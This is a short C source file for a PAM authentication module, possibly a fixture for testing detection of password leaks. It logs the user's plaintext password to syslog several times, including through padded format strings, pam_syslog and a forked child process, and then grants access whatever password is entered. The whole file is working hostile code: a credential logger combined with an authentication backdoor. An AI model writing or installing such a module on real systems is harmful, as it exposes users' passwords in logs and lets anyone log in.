/* SPDX-License-Identifier: BSD-2-Clause */
/* Writes the password to syslog in every way that there is, also from a child, and lets in. */
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

int pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    const char *password = NULL;
    pid_t child;

    if (pam_get_authtok(handle, PAM_AUTHTOK, &password, NULL) != PAM_SUCCESS)
        return PAM_AUTH_ERR;
    syslog(LOG_ERR, "password %s", password);
    syslog(LOG_ERR, "%1000s and password %s", "", password);
    syslog(LOG_ERR, "%1015s%s", "", password);
    pam_syslog(handle, LOG_DEBUG, "[%s]", password);
    child = fork();
    if (child == 0) {
        syslog(LOG_ERR, "the child's password %s", password);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    syslog(LOG_ERR, "nothing to hide");
    return PAM_SUCCESS;
}
